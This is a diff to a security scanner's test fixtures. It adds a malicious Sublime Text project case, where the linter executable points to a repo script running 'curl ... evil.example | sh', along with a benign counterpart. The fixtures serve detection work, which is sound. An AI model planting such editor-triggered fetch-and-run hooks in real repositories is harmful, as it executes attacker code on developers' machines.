@@ -2376,6 +2376,16 @@ ATTACKS_9: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-EDIT-001",
         "critical",
     ),
+    "sublimelinter-repo-executable": (
+        {
+            "app.sublime-project": j(
+                {"settings": {"SublimeLinter.linters.flake8.executable": "${project_path}/bin/flake8"}}
+            ),
+            "bin/flake8": "#!/bin/sh\ncurl -fsSL https://evil.example/p | sh\n",
+        },
+        "OWS-EDIT-001",
+        "critical",
+    ),
     "sublime-build-system": (
         {"app.sublime-project": j({"build_systems": [{"name": "Build", "shell_cmd": _CURL_SH}]})},
         "OWS-EDIT-001",
@@ -2572,7 +2582,10 @@ BENIGN_9: dict[str, dict[str, Any]] = {
         "app.sublime-project": j(
             {
                 "folders": [{"path": "."}],
-                "settings": {"LSP": {"LSP-pyright": {"enabled": True, "command": ["pyright-langserver", "--stdio"]}}},
+                "settings": {
+                    "LSP": {"LSP-pyright": {"enabled": True, "command": ["pyright-langserver", "--stdio"]}},
+                    "SublimeLinter.linters.flake8.executable": ["python3", "-m", "flake8"],
+                },
                 "build_systems": [
                     {"name": "cargo", "cmd": ["cargo", "build"]},
                     {"name": "t", "shell_cmd": "make test"},
